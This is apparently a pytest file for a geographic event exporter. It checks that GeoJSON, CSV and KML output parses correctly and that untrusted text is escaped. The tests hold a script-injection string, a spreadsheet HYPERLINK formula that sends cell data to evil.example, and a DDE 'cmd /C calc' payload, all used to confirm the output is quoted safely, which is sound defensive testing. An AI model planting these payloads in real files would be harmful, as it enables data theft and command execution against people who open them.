"""GeoJSON, CSV and KML exports parse with standard readers and keep the key fields."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pandas as pd
import pytest
from shapely.geometry import shape

from geo import cli, events
from geo.events import FRAME_COLUMNS, events_frame, load_seed_events
from geo.export import FORMATS, render, to_csv, to_geojson, to_kml

KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE = "<script>alert('x')</script> & \"quotes\" ]]> \x0b"


@pytest.fixture(scope="module")
def df() -> pd.DataFrame:
    return events_frame(load_seed_events())


@pytest.fixture()
def hostile_df(df) -> pd.DataFrame:
    out = df.head(2).copy()
    out.loc[:, "title"] = HOSTILE
    out.loc[:, "excerpt"] = HOSTILE
    return out


def test_geojson_follows_rfc_7946(df):
    gj = json.loads(json.dumps(to_geojson(df)))  # survives a JSON round trip
    assert gj["type"] == "FeatureCollection" and "crs" not in gj
    assert len(gj["features"]) == len(df)
    for feature, (_, row) in zip(gj["features"], df.iterrows(), strict=True):
        assert feature["type"] == "Feature" and feature["id"] == row["id"]
        lon, lat = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point"
        assert (lon, lat) == (round(row["lon"], 6), round(row["lat"], 6))  # longitude first
        point = shape(feature["geometry"])  # a GeoJSON reader agrees: x is the longitude
        assert (point.x, point.y) == (lon, lat)
        props = feature["properties"]
        assert props["start"] == row["start"].strftime("%Y-%m-%d")
        assert props["end"] == row["end"].strftime("%Y-%m-%d")
        assert props["excerpt"] == row["excerpt"]  # verbatim, no-break spaces included
        assert props["excerpt_start"] == row["excerpt_start"]
        assert props["confidence"] == row["confidence"]
    west, south, east, north = gj["bbox"]
    assert (west, south, east, north) == (
        round(df["lon"].min(), 6), round(df["lat"].min(), 6),
        round(df["lon"].max(), 6), round(df["lat"].max(), 6),
    )  # fmt: skip
    assert west < 35.6 and east > 51  # from Beirut's suburbs to Tehran


def test_geojson_without_coordinates_has_null_geometry(df):
    row = df.head(1).copy()
    row.loc[:, "lat"] = float("nan")
    feature = to_geojson(row)["features"][0]
    assert feature["geometry"] is None and "bbox" not in to_geojson(row)


def test_csv_round_trips(df):
    rows = list(csv.DictReader(io.StringIO(to_csv(df))))
    assert len(rows) == len(df)
    assert tuple(rows[0]) == FRAME_COLUMNS
    for parsed, (_, row) in zip(rows, df.iterrows(), strict=True):
        assert parsed["id"] == row["id"]
        assert parsed["start"] == row["start"].date().isoformat()
        assert parsed["excerpt"] == row["excerpt"]
        assert float(parsed["lat"]) == row["lat"] and float(parsed["lon"]) == row["lon"]
        assert int(parsed["excerpt_end"]) == row["excerpt_end"]


def test_kml_parses_and_carries_time_spans(df):
    root = ET.fromstring(to_kml(df).encode("utf-8"))
    assert root.tag == f"{KML}kml"
    placemarks = root.iter(f"{KML}Placemark")
    seen = 0
    for pm, (_, row) in zip(placemarks, df.iterrows(), strict=True):
        seen += 1
        lon, lat = map(float, pm.find(f"{KML}Point/{KML}coordinates").text.split(","))
        assert (lon, lat) == (round(row["lon"], 6), round(row["lat"], 6))
        span = pm.find(f"{KML}TimeSpan")
        assert span.find(f"{KML}begin").text == row["start"].date().isoformat()
        assert span.find(f"{KML}end").text == row["end"].date().isoformat()
        data = {d.get("name"): d.find(f"{KML}value").text for d in pm.iter(f"{KML}Data")}
        assert data["id"] == row["id"] and data["excerpt"] == row["excerpt"]
    assert seen == len(df)


def test_untrusted_text_is_escaped_everywhere(hostile_df):
    clean = HOSTILE.replace("\x0b", "")  # XML 1.0 cannot carry it at all
    root = ET.fromstring(to_kml(hostile_df).encode("utf-8"))
    pm = next(root.iter(f"{KML}Placemark"))
    assert pm.find(f"{KML}name").text.startswith(clean)
    description = pm.find(f"{KML}description").text
    assert "<script>" not in description and "&lt;script&gt;" in description  # HTML-escaped
    data = {d.get("name"): d.find(f"{KML}value").text for d in pm.iter(f"{KML}Data")}
    assert data["excerpt"] == clean
    gj = json.loads(render(hostile_df, "geojson"))
    assert gj["features"][0]["properties"]["title"] == HOSTILE
    assert next(csv.DictReader(io.StringIO(to_csv(hostile_df))))["excerpt"] == HOSTILE


def test_render_knows_each_format(df):
    assert set(FORMATS) == {"geojson", "csv", "kml"}
    for name in FORMATS:
        assert render(df, name)
    with pytest.raises(ValueError):
        render(df, "shp")


@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml"])
def test_cli_writes_each_format(tmp_path, capsys, fmt, df):
    out = tmp_path / f"events.{fmt}"
    assert cli.main(["export", "--format", fmt, "--output", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    if fmt == "geojson":
        assert len(json.loads(text)["features"]) == len(df)
    elif fmt == "csv":
        assert len(list(csv.DictReader(io.StringIO(text)))) == len(df)
    else:
        assert len(list(ET.fromstring(text.encode()).iter(f"{KML}Placemark"))) == len(df)
    assert f"{len(df)} records" in capsys.readouterr().err


def test_cli_writes_to_stdout_by_default(capsys, df):
    assert cli.main(["export"]) == 0
    assert json.loads(capsys.readouterr().out)["type"] == "FeatureCollection"


def test_cli_reports_broken_data_without_a_traceback(tmp_path, capsys, monkeypatch):
    broken = tmp_path / "events.csv"
    text = events.SEED_EVENTS.read_text(encoding="utf-8")
    broken.write_text(text.replace(",qusayr,site,", ",atlantis,site,", 1), encoding="utf-8")
    monkeypatch.setattr(events, "SEED_EVENTS", broken)
    events._seed_events.cache_clear()
    try:
        assert cli.main(["export", "--format", "csv"]) == 1
    finally:
        events._seed_events.cache_clear()
    captured = capsys.readouterr()
    assert captured.out == ""
    assert f"{broken}:" in captured.err and "place_id: 'atlantis'" in captured.err
    assert "Traceback" not in captured.err


# --- issue 9: spreadsheet formulas and the year 1 -------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"open")&" Fighting in Homs"'


@pytest.mark.parametrize(
    "cell",
    [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "  =1+1"],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(df, cell):
    hostile = df.head(2).copy()
    hostile.loc[hostile.index[0], "excerpt"] = cell
    hostile.loc[hostile.index[1], "title"] = cell
    for text in (to_csv(hostile), render(hostile, "csv")):  # the CLI and the page's download
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows[0]["excerpt"] == "'" + cell and rows[1]["title"] == "'" + cell
        assert rows[0]["title"] == hostile.iloc[0]["title"]  # ordinary text untouched
        assert float(rows[0]["lon"]) == pytest.approx(hostile.iloc[0]["lon"])


def test_csv_leaves_numbers_and_ordinary_text_alone(df):
    text = df.assign(lon=-73.9, actors="-5", reported_by="x=1").pipe(to_csv)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {(r["lon"], r["actors"], r["reported_by"]) for r in rows} == {("-73.9", "-5", "x=1")}


def test_days_are_iso_with_four_digit_years(df):
    early = df.head(1).assign(start=pd.Timestamp("0001-01-01"), end=pd.Timestamp("0001-01-01"))
    early = early.astype({"start": "datetime64[s]", "end": "datetime64[s]"})
    row = next(csv.DictReader(io.StringIO(to_csv(early))))
    assert (row["start"], row["end"]) == ("0001-01-01", "0001-01-01")  # not "1-01-01"
    feature = to_geojson(early)["features"][0]
    assert feature["properties"]["start"] == "0001-01-01"
